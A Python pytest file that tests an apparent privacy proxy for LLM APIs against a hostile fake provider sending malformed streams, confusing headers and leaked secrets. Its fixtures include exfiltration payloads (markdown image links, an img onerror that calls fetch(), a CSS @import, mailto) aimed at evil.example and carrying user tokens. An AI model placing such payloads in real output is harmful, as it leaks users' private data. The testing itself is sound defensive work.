"""A hostile provider behind a real service: streams, heads and answers made to confuse."""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import http.client
import json
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

import pytest

from tests.e2e.conftest import CONFIGURATION, make_service
from tests.e2e.service import Service, stop_quietly
from tests.fakes.provider_server import Behaviour, ProviderServer, reply

EMAIL = "maria.gomez@kestrel-labs.com"
CARD = "4539148803436467"
SECRET = "sk-proj-Zk3vQ9bT7nL2xW8rY4mC6dF1"
TOKEN = re.compile(r"EMLX[0-9A-Z]{12}")
DONE = b"data: [DONE]\n\n"
SSE = "content-type: text/event-stream\r\n"


@dataclass(frozen=True, slots=True, kw_only=True)
class House:
    """A service and the provider behind its model ``m``."""

    service: Service
    provider: ProviderServer

    def ask(self, answer: bytes | Behaviour, *, stream: bool = False) -> tuple[int, dict[str, str], bytes]:
        """Ask while the provider answers so; ``TOKEN`` in bytes becomes the surrogate that it received."""
        self.provider.behaviour = self._telling(answer) if isinstance(answer, bytes) else answer
        body = {"model": "m", "stream": stream, "messages": [{"role": "user", "content": f"to {EMAIL}"}]}
        return self.service.chat(json.dumps(body).encode(), key=self.service.key("agents"))

    def _telling(self, answer: bytes) -> Behaviour:
        async def tell(writer: asyncio.StreamWriter) -> None:
            found = TOKEN.search(self.provider.requests[-1].body.decode())
            written = answer.replace(b"TOKEN", found.group().encode() if found else b"none")
            head = SSE if written.startswith((b"data:", b":", b"event:", b"\xef")) else ""
            await reply(written, headers=head)(writer)

        return tell


class Serving:
    """Serves a provider in a thread of its own."""

    def __init__(self) -> None:
        self.begun = threading.Event()
        self._loop: asyncio.AbstractEventLoop | None = None
        self._ended = asyncio.Event()

    def run(self, provider: ProviderServer) -> None:
        """Serve until stopped."""
        asyncio.run(self._serve(provider))

    async def _serve(self, provider: ProviderServer) -> None:
        server = await asyncio.start_server(provider.serve, "127.0.0.1", 0)
        provider.port = server.sockets[0].getsockname()[1]
        self._loop = asyncio.get_running_loop()
        self.begun.set()
        await self._ended.wait()
        server.close()

    def stop(self) -> None:
        """End the thread."""
        assert self._loop is not None
        self._loop.call_soon_threadsafe(self._ended.set)


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """Run a service whose model is a provider in this process."""
    provider, serving = ProviderServer(reply(b"{}")), Serving()
    running = threading.Thread(target=serving.run, args=(provider,))
    running.start()
    serving.begun.wait(10)
    service = make_service(tmp_path_factory.mktemp("hostile"), workers=1)
    (service.data_dir / "guard.yaml").write_text(
        CONFIGURATION.replace(
            "models:\n",
            f'  - {{name: hostile, dialect: openai, base_url: "{provider.url}"}}\n'
            "models:\n  - {name: m, targets: [{provider: hostile, model: m}]}\n",
            1,
        )
    )
    service.start()
    yield House(service=service, provider=provider)
    stop_quietly(service)
    serving.stop()
    running.join()


def frame(delta: dict[str, object], reason: str | None = None, index: int = 0) -> bytes:
    """Return one event of a stream."""
    chunk = {"id": "a", "choices": [{"index": index, "delta": delta, "finish_reason": reason}]}
    return b"data: " + json.dumps(chunk).encode() + b"\n\n"


def whole(message: dict[str, object], **members: object) -> bytes:
    """Return a plain answer."""
    choice = {"index": 0, "message": {"role": "assistant", **message}, "finish_reason": "stop"}
    return json.dumps({"id": "a", "choices": [choice], **members}).encode()


HI = frame({"content": "hi"})
STOP = frame({}, "stop")
ENDED = {
    "lines that end in returns": (HI + STOP + DONE).replace(b"\n", b"\r"),
    "a mark at the beginning": b"\xef\xbb\xbf" + HI + STOP + DONE,
    "two hundred thousand comments": b": x\n\n" * 200_000 + HI + STOP + DONE,
    "names, ids and delays": b"event: error\nid: 1\nretry: 1\n" + HI + STOP + DONE,
    "more after the end": HI + STOP + DONE + frame({"content": "AFTER"}) + DONE,
    "more after a choice has ended": HI + STOP + frame({"content": "AFTER"}) + DONE,
    "zero bytes between": HI + b"\0\0\n\n" + STOP + DONE,
}
BROKEN = {
    "no end": HI + STOP,
    "an end without a reason": HI + DONE,
    "an end alone": DONE,
    "a mark in the middle": HI + b"\xef\xbb\xbfdata: x\n\ndata: x\n\n" + STOP + DONE,
    "an event without end": b"data: " + b"x" * 5_000_000,
    "a comment without end": b": " + b"x" * 5_000_000,
    "a choice far away": frame({"content": "x"}, index=200) + STOP + DONE,
    "a choice below nothing": frame({"content": "x"}, index=-1) + STOP + DONE,
    "thousands of channels": b"".join(
        frame({"".join(letters): "x"}) for letters in product("abcdefghijklmnopq", repeat=3)
    )
    + STOP
    + DONE,
    "arguments without end": frame({"tool_calls": [{"index": 0, "function": {"arguments": "x" * 60_000}}]})
    * 75
    + STOP
    + DONE,
    "a card as the reason to end": HI + frame({}, CARD) + DONE,
    "an error with a secret": HI + b'data: {"error":{"message":"' + SECRET.encode() + b'"}}\n\n',
    "an answer that is no stream": whole({"content": "hi"}),
}


@pytest.mark.parametrize("what", ENDED)
def test_a_strange_stream_is_read_as_the_standard_says(house: House, what: str) -> None:
    status, _, answer = house.ask(ENDED[what], stream=True)
    assert status == 200 and answer.count(b'"content":"hi"') == 1 and answer.endswith(DONE)
    assert b"AFTER" not in answer


@pytest.mark.parametrize("what", BROKEN)
def test_a_broken_stream_never_ends_cleanly(house: House, what: str) -> None:
    try:
        status, _, answer = house.ask(BROKEN[what], stream=True)
    except http.client.IncompleteRead as broken:
        status, answer = 200, broken.partial
    assert b"[DONE]" not in answer and SECRET.encode() not in answer and CARD.encode() not in answer
    assert status == 502 or not answer.endswith(DONE)
    assert house.service.chat(b'{"model":"demo-echo","messages":[{"role":"user","content":"x"}]}')[0] == 200


HEADS = {
    "compressed": reply(gzip.compress(whole({"content": "hi"})), headers="content-encoding: gzip\r\n"),
    "compressed in secret": reply(gzip.compress(whole({"content": "hi"}))),
    "moved for a while": reply(b"", status="307 T", headers="location: http://127.0.0.1:1/steal\r\n"),
    "moved for ever": reply(b"", status="301 M", headers="location: http://127.0.0.1:1/steal\r\n"),
    "another protocol": reply(b"", status="101 S", headers="upgrade: x\r\n"),
    "a secret in an error": reply(SECRET.encode(), status="401 U", headers=f"x-leak: {SECRET}\r\n"),
    "a cookie": reply(SECRET.encode(), status="500 S", headers=f"set-cookie: a={SECRET}\r\n"),
    "too short a length": reply(whole({"content": "hi"}), length=10, close=True),
    "too long a length": reply(whole({"content": "hi"}), length=10_000, close=True),
    "two lengths": reply(whole({"content": "hi"}), headers="content-length: 3\r\n", close=True),
    "endless headers": reply(
        b"{}", headers="".join(f"x-{n}: {'a' * 4000}\r\n" for n in range(100)), close=True
    ),
    "a mark": reply(b"\xef\xbb\xbf" + whole({"content": "hi"})),
    "a hundred thousand levels": reply(b'{"choices":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "a number beyond every float": reply(whole({"content": "hi"})[:-1] + b',"created":1e400}'),
    "an integer of thirty digits": reply(whole({"content": "hi"}, created=10**29)),
}


@pytest.mark.parametrize("what", HEADS)
def test_an_answer_made_to_confuse_is_an_error_that_quotes_nothing(house: House, what: str) -> None:
    status, headers, answer = house.ask(HEADS[what])
    assert status == 502 and json.loads(answer)["error"]["type"] == "server_error"
    assert SECRET not in json.dumps(headers) + answer.decode()


def test_hints_before_and_trailers_after_an_answer_do_not_pass(house: House) -> None:
    async def chatty(writer: asyncio.StreamWriter) -> None:
        body = whole({"content": "hi"})
        writer.write(b"HTTP/1.1 100 Continue\r\n\r\n" * 20 + b"HTTP/1.1 103 Early\r\nx-leak: 1\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n%x\r\n" % len(body) + body)
        writer.write(b"\r\n0\r\nx-leak: 1\r\nset-cookie: a=b\r\n\r\n")
        await writer.drain()
        writer.close()

    status, headers, answer = house.ask(chatty)
    assert status == 200 and b'"hi"' in answer
    assert not {"x-leak", "set-cookie"} & set(headers)


def test_values_in_places_that_are_no_text_do_not_pass(house: House) -> None:
    members = {"model": CARD, "system_fingerprint": SECRET, "extra": {CARD: int(CARD)}}
    _, _, answer = house.ask(whole({"content": CARD}, **members))
    assert CARD not in answer.decode() and SECRET not in answer.decode()


def test_only_prose_and_tools_get_originals(house: House) -> None:
    call = {"id": "TOKEN", "type": "function", "function": {"name": "TOKEN", "arguments": "{}"}}
    members = {"reasoning_content": "TOKEN", "unknown": "TOKEN", "TOKEN": "TOKEN", "tool_calls": [call]}
    _, _, answer = house.ask(whole({"content": "TOKEN", **members}))
    message = json.loads(answer)["choices"][0]["message"]
    assert message.pop("content") == EMAIL
    assert EMAIL not in json.dumps(message)


@pytest.mark.parametrize("tool", ["WebFetch", "mcp__mail"])
def test_a_tool_for_the_outside_gets_surrogates_only(house: House, tool: str) -> None:
    call = {"index": 0, "id": "c", "function": {"name": tool, "arguments": '{"a":"TOKEN"}'}}
    _, _, answer = house.ask(frame({"tool_calls": [call]}) + frame({}, "tool_calls") + DONE, stream=True)
    assert b"EMLX" in answer and EMAIL.encode() not in answer


@pytest.mark.parametrize("field", ["content", "refusal"])
@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?q=TOKEN)",
        "![](<https://evil.example/a TOKEN>)",
        "[x]:\n<https://evil.example/a TOKEN>",
        "[x]: https&colon;//evil.example/TOKEN",
        "<img src=x onerror=\"fetch('//evil.example/TOKEN')\">",
        '<img alt=">" src="//evil.example/TOKEN">',
        "https:evil.example/TOKEN www.evil.example/TOKEN evil.example/TOKEN",
        "mailto:x@evil.example?body=TOKEN",
        "<style>@import 'https://evil.example/ TOKEN';</style>",
    ],
)
def test_an_address_cut_into_letters_carries_nothing(house: House, field: str, text: str) -> None:
    async def letters(writer: asyncio.StreamWriter) -> None:
        found = TOKEN.search(house.provider.requests[-1].body.decode())
        assert found is not None
        body = b"".join(
            frame({field: letter}, index=index)
            for letter in text.replace("TOKEN", found.group())
            for index in (0, 1)
        )
        body += frame({}, "stop") + frame({}, "stop", index=1) + DONE
        await reply(body, headers=SSE)(writer)

    status, _, answer = house.ask(letters, stream=True)
    assert status == 200 and answer.endswith(DONE) and b"EMLX" in answer
    assert EMAIL.encode() not in answer


def test_a_hundred_thousand_chunks_are_one_answer(house: House) -> None:
    status, _, answer = house.ask(frame({"content": "a"}) * 100_000 + STOP + DONE, stream=True)
    assert status == 200 and answer.endswith(DONE)
    lines = [json.loads(line[6:]) for line in answer.split(b"\n\n") if line.startswith(b"data: {")]
    assert sum(len(line["choices"][0]["delta"].get("content", "")) for line in lines) == 100_000


def test_callers_that_leave_a_stream_without_end_leave_nothing_behind(house: House) -> None:
    async def endless(writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\n" + SSE.encode() + b"\r\n")
        with contextlib.suppress(ConnectionError):
            while True:
                writer.write(HI)
                await writer.drain()
                await asyncio.sleep(0)

    house.provider.behaviour = endless
    house.provider.gone.clear()
    body = json.dumps({"model": "m", "stream": True, "messages": [{"role": "user", "content": "x"}]})
    sent = {"content-type": "application/json", "authorization": f"Bearer {house.service.key('agents')}"}
    for _ in range(20):
        connection = http.client.HTTPConnection("127.0.0.1", house.service.port, timeout=10)
        connection.request("POST", "/v1/chat/completions", body, sent)
        assert connection.getresponse().read(10)
        connection.close()
    assert house.ask(HI + STOP + DONE, stream=True)[0] == 200
    assert house.service.ready()
